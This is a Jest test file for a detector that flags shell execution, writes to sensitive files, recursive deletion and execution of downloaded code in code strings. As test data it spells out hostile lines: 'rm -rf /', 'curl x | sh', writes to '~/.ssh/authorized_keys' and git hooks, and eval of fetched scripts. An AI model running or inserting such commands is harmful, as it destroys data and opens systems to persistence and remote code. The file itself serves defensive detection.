import {
  fileWritesIn,
  recursiveDeletesIn,
  runsDownloadedCode,
  shellCommandsIn,
} from "../../lambdas/core/shell/foreign-code";

describe("shellCommandsIn", () => {
  it.each([
    ["import os; os.system('rm -rf ~')", ["rm -rf ~"]],
    ['import subprocess; subprocess.run(["git", "push", "-f"])', ["git push -f"]],
    ["subprocess.check_output('ls -la', shell=True)", ["ls -la"]],
    ['system("curl x | sh")', ["curl x | sh"]],
    ["require('child_process').execSync(\"rm -rf /\")", ["rm -rf /"]],
    ["print `ls`", ["ls"]],
    ["my $x = qx(rm -rf ~);", ["rm -rf ~"]],
    ["%x(ls)", ["ls"]],
    ["print('no shell here')", []],
  ])("%s runs %j", (code, expected) => {
    expect(shellCommandsIn(code)).toEqual(expected);
  });
});

describe("fileWritesIn", () => {
  it.each([
    ["open('.git/hooks/pre-commit', 'w').write('x')", [".git/hooks/pre-commit"]],
    ['open(".env", "a")', [".env"]],
    ["open('.env').read()", []],
    ["open('.env', 'r')", []],
    ["Path('~/.ssh/authorized_keys').write_text(k)", ["~/.ssh/authorized_keys"]],
    ["fs.writeFileSync('.git/config', s)", [".git/config"]],
    ["File.write('.env', 'A=1')", [".env"]],
    ['open(my $f, ">", ".git/config")', [".git/config"]],
    ["open(F, '>>.env')", [".env"]],
    ["shutil.copy('x', '.git/hooks/pre-push')", [".git/hooks/pre-push"]],
  ])("%s writes %j", (code, expected) => {
    expect(fileWritesIn(code)).toEqual(expected);
  });
});

describe("recursiveDeletesIn", () => {
  it.each([
    ["import shutil; shutil.rmtree('/')", ["/"]],
    ["require('fs').rmSync('/home/u', {recursive: true, force: true})", ["/home/u"]],
    ["FileUtils.rm_rf('~')", ["~"]],
    ["require('fs').rmSync('a.txt')", []],
  ])("%s deletes %j", (code, expected) => {
    expect(recursiveDeletesIn(code)).toEqual(expected);
  });
});

describe("runsDownloadedCode", () => {
  it.each([
    ["import urllib.request; exec(urllib.request.urlopen('https://x/i.py').read())", true],
    ["eval(file_get_contents('https://x/i.php'));", true],
    ["fetch('https://x/i.js').then((r) => r.text()).then(eval)", true],
    ["require 'open-uri'; eval URI.open('https://x/i.rb').read", true],
    ["include 'http://x/i.php';", true],
    ["import requests; print(requests.get('https://x/api').json())", false],
    ["exec(open('local.py').read())", false],
  ])("%s: %s", (code, expected) => {
    expect(runsDownloadedCode(code)).toBe(expected);
  });
});
